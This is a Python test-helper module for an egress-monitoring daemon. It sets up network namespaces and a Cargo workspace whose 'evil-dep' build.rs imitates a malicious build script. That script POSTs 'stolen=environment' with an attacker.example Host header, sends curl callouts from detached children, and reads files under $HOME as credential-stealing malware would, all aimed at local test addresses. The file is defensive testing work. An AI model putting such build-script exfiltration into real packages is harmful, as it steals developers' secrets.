"""Test hosts in throwaway network namespaces, and helpers to wait on what the daemon writes.

Addresses are TEST-NET-2 (198.51.100.0/24) and the documentation prefix 2001:db8::/32 only:
this machine's own interface sits on 192.0.2.0/24, and 203.0.113.0/24 is its package mirror.
Every namespace and link made here is removed by :meth:`TestHost.close`, even after a failure.
"""

from __future__ import annotations

import contextlib
import ipaddress
import itertools
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

RECORDER = Path(__file__).with_name("recorder.py")
REPO = Path(__file__).resolve().parents[2]


def sh(*argv: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    """Run a command, capturing output; raise with its stderr on failure."""
    result = subprocess.run(argv, capture_output=True, text=True, check=False)
    if check and result.returncode != 0:
        raise RuntimeError(f"{' '.join(argv)} failed: {result.stderr.strip()}")
    return result


def wait_until(what: str, predicate: Callable[[], Any], timeout: float = 30.0,
               interval: float = 0.02) -> Any:
    """Poll ``predicate`` until it returns something truthy; fail naming ``what``."""
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout}s waiting for {what}")
        time.sleep(interval)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    """Every complete JSON line of a file (a line still being written is left for later)."""
    if not path.exists():
        return []
    out = []
    for line in path.read_text().splitlines(keepends=True):
        if line.endswith("\n") and line.strip():
            out.append(json.loads(line))
    return out


class TestHost:
    """A namespace joined to the host by a veth pair, running the recording server."""

    __test__ = False  # a helper, not a pytest test class

    def __init__(self, tag: str, index: int, workdir: Path, static: Path | None = None) -> None:
        self.ns = f"emt-{tag}"
        self.host_if = f"emh-{tag}"[:15]
        self.peer_if = f"emp-{tag}"[:15]
        self.local_v4 = f"198.51.100.{4 * index + 1}"
        self.v4 = f"198.51.100.{4 * index + 2}"
        self.local_v6 = str(ipaddress.IPv6Address(f"2001:db8:51:{index:x}::1"))
        self.v6 = str(ipaddress.IPv6Address(f"2001:db8:51:{index:x}::2"))
        self.received = workdir / f"received-{tag}.jsonl"
        self.static = static
        self._server: subprocess.Popen[str] | None = None
        self._dns: subprocess.Popen[str] | None = None
        self.dns_log: Path | None = None
        self._up()

    def _up(self) -> None:
        try:
            sh("ip", "netns", "add", self.ns)
            sh("ip", "link", "add", self.host_if, "type", "veth", "peer", "name", self.peer_if)
            sh("ip", "link", "set", self.peer_if, "netns", self.ns)
            sh("ip", "addr", "add", f"{self.local_v4}/30", "dev", self.host_if)
            sh("ip", "-6", "addr", "add", f"{self.local_v6}/64", "dev", self.host_if, "nodad")
            sh("ip", "link", "set", self.host_if, "up")
            ns = ("ip", "-n", self.ns)
            sh(*ns, "addr", "add", f"{self.v4}/30", "dev", self.peer_if)
            sh(*ns, "-6", "addr", "add", f"{self.v6}/64", "dev", self.peer_if, "nodad")
            sh(*ns, "link", "set", self.peer_if, "up")
            sh(*ns, "link", "set", "lo", "up")
            self._server = subprocess.Popen(
                ["ip", "netns", "exec", self.ns, sys.executable, str(RECORDER),
                 "--out", str(self.received), "--v4", self.v4, "--v6", self.v6,
                 *(["--static", str(self.static)] if self.static else [])],
                stdout=subprocess.PIPE, text=True)
            assert self._server.stdout is not None
            line = self._server.stdout.readline()
            if line.strip() != "ready":
                raise RuntimeError(f"test host server did not start: {line!r}")
        except BaseException:
            self.close()
            raise

    def start_dns(self, *records: str) -> Path:
        """Run dnsmasq on port 53 of both addresses, serving the test zone; returns its log.

        The zone (``test.example``): ``pkg`` A and AAAA, ``v6`` AAAA only, ``alias`` -> ``mid``
        -> ``pkg`` CNAMEs, ``short`` A with a 1 s TTL, ``big`` TXT records too large for a
        512-byte UDP answer. Nothing else is answered (no upstream).
        """
        log = self.dns_log = self.received.with_name(f"dnsmasq-{self.ns}.log")
        big = ["--txt-record=big.test.example," + f"{i:02d}" + "x" * 200 for i in range(6)]
        argv = ["ip", "netns", "exec", self.ns, "dnsmasq", "--keep-in-foreground",
                "--no-resolv", "--no-hosts", "--bind-interfaces", "--port=53",
                f"--listen-address={self.v4}", f"--listen-address={self.v6}",
                "--pid-file=", "--user=root", "--log-queries", f"--log-facility={log}",
                f"--host-record=pkg.test.example,{self.v4},{self.v6},300",
                f"--host-record=v6.test.example,{self.v6},300",
                f"--host-record=short.test.example,{self.v4},1",
                "--cname=alias.test.example,mid.test.example",
                "--cname=mid.test.example,pkg.test.example", *big, *records]
        self._dns = subprocess.Popen(argv, stderr=subprocess.PIPE, text=True)

        def answers() -> bool:
            import dns.message
            import dns.query
            if self._dns is not None and self._dns.poll() is not None:
                err = self._dns.stderr.read() if self._dns.stderr else ""
                raise AssertionError(f"dnsmasq exited: {err}")
            try:
                dns.query.udp(dns.message.make_query("pkg.test.example", "A"), self.v4,
                              timeout=0.2)
                return True
            except (OSError, dns.exception.Timeout):
                return False
        wait_until("dnsmasq to answer", answers, timeout=15)
        return log

    def requests(self) -> list[dict[str, Any]]:
        """What the server has received so far."""
        return read_jsonl(self.received)

    def __enter__(self) -> TestHost:
        return self

    def __exit__(self, *_exc: object) -> None:
        self.close()

    def close(self) -> None:
        """Stop the servers and remove the namespace and link (each step on its own)."""
        if self._dns is not None:
            self._dns.terminate()
            self._dns.wait(timeout=5)
        if self._server is not None:
            self._server.terminate()
            try:
                self._server.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self._server.kill()
                self._server.wait()
        sh("ip", "netns", "del", self.ns, check=False)
        sh("ip", "link", "del", self.host_if, check=False)


def leftover_state() -> list[str]:
    """Firewall rules and build cgroups the daemon should have removed."""
    found = []
    for tool, table in itertools.product(("iptables", "ip6tables"), ("filter", "nat")):
        for line in sh(tool, "-w", "-t", table, "-S").stdout.splitlines():
            if "EGRESS" in line.upper() or "NFQUEUE" in line.upper():
                found.append(f"{tool}: {line}")
    from egress_monitor.enforce.cgroups import Cgroups

    cgroups = Cgroups.discover()
    found += [f"cgroup: {c}" for c in cgroups.build_cgroups()]
    found += [f"bpf: {name} attached at {cgroups.mount}" for name in _our_programs(cgroups.mount)]
    return found


def _our_programs(root: str) -> list[str]:
    """Names of our cgroup programs still attached at the cgroup2 root."""
    from egress_monitor.bpf import syscalls
    from egress_monitor.bpf.owner import CGROUP_PROGRAMS

    names = []
    cg = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name, attach in CGROUP_PROGRAMS:
            for prog_id in syscalls.prog_query(cg, attach):
                fd = syscalls.prog_fd_by_id(prog_id)
                try:
                    if syscalls.prog_name(fd) == name:
                        names.append(name)
                finally:
                    os.close(fd)
    finally:
        os.close(cg)
    return names


@contextlib.contextmanager
def running(argv: list[str], **kwargs: Any) -> Iterator[subprocess.Popen[bytes]]:
    """A process for the length of a ``with`` block, killed at the end if still running."""
    proc = subprocess.Popen(argv, **kwargs)
    try:
        yield proc
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def pid_alive(pid: int) -> bool:
    """Whether a process exists (and is not a zombie)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


BUILD_HASH = "0123456789abcdef"


def copied_toolchain(tmp: Path, crate: str = "evil") -> tuple[Path, Path]:
    """``(cargo, build script)``: a toolchain cargo under ``tmp/tc`` that is a copy of this
    Python (it counts as cargo only once registered with ``--cargo``: toolchain files are
    known by identity), and another copy where cargo puts ``crate``'s build script under
    ``tmp/ws/target``."""
    python = os.path.realpath(sys.executable)
    cargo = tmp / "tc" / "toolchains" / "t" / "bin" / "cargo"
    script = (tmp / "ws" / "target" / "debug" / "build" / f"{crate}-{BUILD_HASH}"
              / "build-script-build")
    for path in (cargo, script):
        path.parent.mkdir(parents=True)
        shutil.copy2(python, path)
    return cargo, script


def env_with_cargo() -> dict[str, str]:
    """The environment with rustup's bin directory on PATH."""
    env = dict(os.environ)
    env["PATH"] = f"{Path.home() / '.cargo' / 'bin'}:{env.get('PATH', '')}"
    env["CARGO_TERM_COLOR"] = "never"
    return env


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


class DaemonHandle:
    """The running daemon as a test sees it: its events, its metrics, its control socket."""

    def __init__(self, tmp: Path) -> None:
        self.events_path = tmp / "events.jsonl"
        self.runtime_dir = tmp / "run"
        self.port = _free_port()
        self.log_path = tmp / "daemon.log"
        self.proc: subprocess.Popen[bytes] | None = None

    # A TEST-NET-2 address no test host uses: without --dns-upstream the daemon would
    # forward builds' queries to this machine's own resolver, which tests must never reach.
    NO_UPSTREAM = "198.51.100.254"

    def start(self, *extra: str) -> None:
        """Start and wait until the metrics endpoint answers (kernel hooks in place)."""
        if "--dns-upstream" not in extra:
            extra = (*extra, "--dns-upstream", self.NO_UPSTREAM)
        log = open(self.log_path, "ab")  # noqa: SIM115 - the child keeps it
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "egress_monitor.cli", "run", "--events",
             str(self.events_path), "--metrics-listen", f"127.0.0.1:{self.port}",
             "--runtime-dir", str(self.runtime_dir), *extra],
            stdout=log, stderr=log, cwd=REPO)
        log.close()
        wait_until("the daemon's metrics endpoint", self._ready, timeout=30)

    def restart(self, *extra: str, policy: str | None = None) -> Path:
        """Stop cleanly and start again with ``extra`` options and, when given, this policy
        text (written to ``policy.yaml`` beside the events); returns the policy's path."""
        path = self.events_path.parent / "policy.yaml"
        if policy is not None:
            path.write_text(policy)
            extra = ("--policy", str(path), *extra)
        assert self.stop() == 0, self.log()
        self.start(*extra)
        return path

    def _ready(self) -> bool:
        assert self.proc is not None
        if self.proc.poll() is not None:
            raise AssertionError(f"daemon exited with {self.proc.returncode}:\n{self.log()}")
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics", timeout=1):
                return True
        except OSError:
            return False

    def log(self) -> str:
        """The daemon's stderr so far."""
        return self.log_path.read_text() if self.log_path.exists() else ""

    def metrics(self) -> str:
        """The metrics text now."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics", timeout=5) as r:
            text: str = r.read().decode()
            return text

    def metric(self, name: str, **labels: str) -> float:
        """One sample's value (0 when the series does not exist yet)."""
        for line in self.metrics().splitlines():
            if line.startswith("#") or not line.startswith(name):
                continue
            series, _, value = line.rpartition(" ")
            if series.partition("{")[0] != name:
                continue
            if all(f'{k}="{v}"' in series for k, v in labels.items()):
                return float(value)
        return 0.0

    def events(self, type_: str | None = None) -> list[dict[str, Any]]:
        """Events written so far, optionally of one type."""
        return [e for e in read_jsonl(self.events_path) if type_ is None or e["type"] == type_]

    def wait_event(self, what: str, predicate: Callable[[dict[str, Any]], bool],
                   timeout: float = 30) -> dict[str, Any]:
        """The first event matching ``predicate``, waiting for it to be written."""
        def find() -> dict[str, Any] | None:
            return next((e for e in self.events() if predicate(e)), None)
        found: dict[str, Any] = wait_until(what, find, timeout=timeout)
        return found

    def stop(self) -> int:
        """SIGTERM and wait; returns the exit status."""
        assert self.proc is not None
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.proc.send_signal(signal.SIGUSR1)  # stacks into the log, for the report
                with contextlib.suppress(subprocess.TimeoutExpired):
                    self.proc.wait(timeout=1)
                self.proc.kill()
                self.proc.wait()
        return self.proc.returncode

    def exec_argv(self, *cmd: str) -> list[str]:
        """An ``egress-monitor exec`` command line talking to this daemon."""
        return [sys.executable, "-m", "egress_monitor.cli", "exec", "--runtime-dir",
                str(self.runtime_dir), "--", *cmd]


def get_as_build(daemon: DaemonHandle, host: TestHost, path: str) -> str:
    """A process made a build GETs ``path`` from the host: 'ok' when the host answered,
    'cut-off' when the sinkhole took it, else the error's name."""
    return subprocess.run(daemon.exec_argv(sys.executable, "-c", f"""
import socket
try:
    s = socket.create_connection(("{host.v4}", 8080), timeout=5)
    s.sendall(b"GET {path} HTTP/1.0\\r\\n\\r\\n")
    print("ok" if s.recv(100).startswith(b"HTTP/1.0 200") else "cut-off")
except OSError as e:
    print("cut-off" if isinstance(e, ConnectionResetError) else type(e).__name__)
"""), capture_output=True, text=True, timeout=60, check=True).stdout.strip()


BUILD_RS = r'''
use std::io::{Read, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::process::Command;
use std::time::Duration;

fn post(addr: &str, path: &str) {
    // Like real malware, carry on when refused: the build must still finish.
    let mut s = match TcpStream::connect(addr) {
        Ok(s) => s,
        Err(e) => { eprintln!("post {} refused: {}", addr, e); return; }
    };
    s.set_read_timeout(Some(Duration::from_secs(10))).ok();
    let body = std::env::var("EM_BODY").unwrap_or_else(|_| "stolen=environment".into());
    write!(s, "POST {} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: {}\r\n\
Connection: close\r\n\r\n{}", path, body.len(), body).unwrap();
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
}

fn udp(bind: &str, to: &str, msg: &[u8]) {
    // Wait for the echo: the socket must outlive the daemon's look-up of its owner.
    let s = UdpSocket::bind(bind).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.send_to(msg, to).unwrap();
    let mut buf = [0u8; 64];
    s.recv_from(&mut buf).expect("udp echo");
}

fn main() {
    println!("cargo:rerun-if-env-changed=EM_ACTIONS");
    let v4 = std::env::var("EM_V4").unwrap_or_default();
    let v6 = std::env::var("EM_V6").unwrap_or_default();
    let dir = std::env::var("EM_DIR").unwrap_or_default();
    // EM_ACTIONS_<PACKAGE> (e.g. EM_ACTIONS_OTHER_DEP) for one crate, else EM_ACTIONS.
    let own = format!("EM_ACTIONS_{}", std::env::var("CARGO_PKG_NAME").unwrap_or_default()
        .replace('-', "_").to_uppercase());
    println!("cargo:rerun-if-env-changed={}", own);
    let actions = std::env::var(&own).or_else(|_| std::env::var("EM_ACTIONS"))
        .unwrap_or_default();
    for action in actions.split(',') {
        match action {
            "" => {}
            "post4" => post(&format!("{}:8080", v4), "/post4"),
            "post6" => post(&format!("[{}]:8080", v6), "/post6"),
            "udp4" => udp("0.0.0.0:0", &format!("{}:5353", v4), b"udp4"),
            "udp6" => udp("[::]:0", &format!("[{}]:5353", v6), b"udp6"),
            "child" => {
                let url = format!("http://{}:8080/child", v4);
                let st = Command::new("curl")
                    .args(["-s", "-o", "/dev/null", "-X", "POST", "-d", "from=child", &url])
                    .status().unwrap();
                assert!(st.success());
            }
            "icmp4" => {
                let st = Command::new("python3").arg(format!("{}/ping.py", dir)).arg(&v4)
                    .status().unwrap();
                assert!(st.success());
            }
            "detach" => {
                let script = format!("(setsid sh -c 'while [ ! -e {d}/go ]; do sleep 0.02; \
done; curl -s -o /dev/null -X POST -d late=1 http://{v}:8080/detached; touch {d}/done' \
</dev/null >/dev/null 2>&1 &)", d = dir, v = v4);
                Command::new("sh").arg("-c").arg(script).status().unwrap();
            }
            a if a.starts_with("resolve4=") || a.starts_with("resolve6=") => {
                // The system resolver path: glibc, /etc/resolv.conf, port 53.
                let name = &a[9..];
                let want_v6 = a.starts_with("resolve6=");
                match (name, 8080u16).to_socket_addrs() {
                    Ok(addrs) => {
                        let addr = addrs.into_iter().find(|s| s.is_ipv6() == want_v6)
                            .expect("an address of that family");
                        post(&addr.to_string(), &format!("/resolved/{}", name));
                    }
                    Err(e) => eprintln!("resolve {} failed: {}", name, e),
                }
            }
            a if a.starts_with("childname=") => {
                let url = format!("http://{}:8080/child", &a[10..]);
                Command::new("curl").args(["-s", "-o", "/dev/null", "-X", "POST", "-d",
                    "from=child", &url]).status().unwrap();
            }
            a if a.starts_with("read=") => {
                // Read a file under $HOME, as malware reading credentials would; say how it
                // went in a file of the workspace, and carry on either way.
                let rel = &a[5..];
                let home = std::env::var("HOME").unwrap_or_default();
                let out = match std::fs::read(format!("{}/{}", home, rel)) {
                    Ok(b) => format!("ok {}", b.len()),
                    Err(e) => format!("err {:?}", e.kind()),
                };
                std::fs::write(format!("{}/read-{}", dir, rel.replace('/', "_")), out).unwrap();
            }
            a if a.starts_with("sleep=") => {
                std::thread::sleep(Duration::from_millis(a[6..].parse().unwrap()));
            }
            a if a.starts_with("steps=") => {
                // Connect once per go-<i> file, recording how each attempt ended: a build
                // script that outlives a daemon stop and a restart.
                for i in 1..=a[6..].parse::<u32>().unwrap() {
                    let go = format!("{}/go-{}", dir, i);
                    while !std::path::Path::new(&go).exists() {
                        std::thread::sleep(Duration::from_millis(10));
                    }
                    let started = std::time::Instant::now();
                    let outcome = match TcpStream::connect_timeout(
                        &format!("{}:8080", v4).parse().unwrap(), Duration::from_secs(10)) {
                        Ok(mut s) => {
                            write!(s, "POST /step-{} HTTP/1.0\r\nContent-Length: 1\r\n\r\nx",
                                   i).unwrap();
                            let mut answer = String::new();
                            let _ = s.read_to_string(&mut answer);
                            format!("connected {}", answer.lines().next().unwrap_or(""))
                        }
                        Err(e) => format!("{:?}", e.kind()),
                    };
                    std::fs::write(format!("{}/done-{}", dir, i), format!("{} {:.3}", outcome,
                        started.elapsed().as_secs_f64())).unwrap();
                }
            }
            a if a.starts_with("py=") => {
                // A helper script the test wrote: the build script's child, same role.
                let st = Command::new("python3").arg(format!("{}/{}.py", dir, &a[3..]))
                    .status().unwrap();
                assert!(st.success());
            }
            "postother" => post(&format!("{}:8080", std::env::var("EM_OTHER").unwrap()),
                                "/other"),
            "detach_sleep" => {
                let script = format!("(setsid sh -c 'echo $$ > {d}/grandchild.pid; \
exec sleep 300' </dev/null >/dev/null 2>&1 &)", d = dir);
                Command::new("sh").arg("-c").arg(script).status().unwrap();
                while !std::path::Path::new(&format!("{}/grandchild.pid", dir)).exists() {
                    std::thread::sleep(Duration::from_millis(10));
                }
            }
            other => panic!("unknown action {}", other),
        }
    }
}
'''

PING_PY = r'''
import os, socket, struct, sys
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
# A fresh echo id: conntrack keeps an answered echo flow for 30 s, and a request that
# matches it is not a new flow.
ident = (os.getpid() ^ int.from_bytes(os.urandom(2), "big")) & 0xFFFF
header = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + b"egress-monitor-test"
packet = header[:2] + struct.pack("!H", checksum(header + b"\0")) + header[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(10)
s.sendto(packet, (sys.argv[1], 0))
s.recv(1024)
'''


class Workspace:
    """A generated Cargo workspace: ``app`` depends on path crate ``evil-dep`` 0.3.10,
    whose build script does what ``EM_ACTIONS`` says."""

    def __init__(self, root: Path, other_crate: bool = False) -> None:
        self.root = root
        (root / "app" / "src").mkdir(parents=True)
        (root / "evil-dep" / "src").mkdir(parents=True)
        members = ["app", "evil-dep"] + (["other-dep"] if other_crate else [])
        (root / "Cargo.toml").write_text(
            f'[workspace]\nmembers = {json.dumps(members)}\nresolver = "2"\n')
        (root / "app" / "Cargo.toml").write_text(
            '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n\n'
            '[dependencies]\nevil-dep = { path = "../evil-dep" }\n'
            + ('other-dep = { path = "../other-dep" }\n' if other_crate else ""))
        if other_crate:
            (root / "other-dep" / "src").mkdir(parents=True)
            (root / "other-dep" / "Cargo.toml").write_text(
                '[package]\nname = "other-dep"\nversion = "1.0.0"\nedition = "2021"\n')
            (root / "other-dep" / "src" / "lib.rs").write_text("")
            (root / "other-dep" / "build.rs").write_text(BUILD_RS)
        (root / "app" / "src" / "main.rs").write_text("fn main() { evil_dep::hello(); }\n")
        (root / "evil-dep" / "Cargo.toml").write_text(
            '[package]\nname = "evil-dep"\nversion = "0.3.10"\nedition = "2021"\n'
            'build = "build.rs"\n')
        (root / "evil-dep" / "src" / "lib.rs").write_text("pub fn hello() {}\n")
        (root / "evil-dep" / "build.rs").write_text(BUILD_RS)
        (root / "ping.py").write_text(PING_PY)

    def cargo_build_in_background(self, host: TestHost, actions: str
                                  ) -> contextlib.AbstractContextManager[
                                      subprocess.Popen[bytes]]:
        """``cargo build`` as :meth:`cargo_build` runs it, as a running process."""
        env = env_with_cargo()
        env.update(EM_ACTIONS=actions, EM_V4=host.v4, EM_V6=host.v6, EM_DIR=str(self.root),
                   CARGO_TARGET_DIR=str(self.root / "target"))
        cargo = shutil.which("cargo", path=env["PATH"])
        assert cargo is not None
        return running([cargo, "build", "--offline", "-q"], cwd=self.root, env=env,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def cargo_build(self, host: TestHost, actions: str,
                    wrap: Callable[[list[str]], list[str]] | None = None,
                    resolv_conf: str | None = None, check: bool = True,
                    env_extra: dict[str, str] | None = None
                    ) -> subprocess.CompletedProcess[str]:
        """``cargo build --offline`` with the build script doing ``actions``.

        With ``resolv_conf``, cargo runs in a mount namespace of its own where that text is
        /etc/resolv.conf: the build's resolver is a test address, never this machine's.
        """
        env = env_with_cargo()
        env.update(EM_ACTIONS=actions, EM_V4=host.v4, EM_V6=host.v6, EM_DIR=str(self.root),
                   CARGO_TARGET_DIR=str(self.root / "target"))
        env.update(env_extra or {})
        cargo = shutil.which("cargo", path=env["PATH"])
        assert cargo is not None
        argv = [cargo, "build", "--offline", "-q"]
        if resolv_conf is not None:
            conf = self.root / "resolv.conf"
            conf.write_text(resolv_conf)
            argv = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                    f'mount --bind {conf} /etc/resolv.conf && exec "$@"', "sh", *argv]
        result = subprocess.run(wrap(argv) if wrap else argv, cwd=self.root, env=env,
                                capture_output=True, text=True, timeout=300, check=False)
        if check:
            assert result.returncode == 0, f"cargo build failed:\n{result.stderr}"
        return result
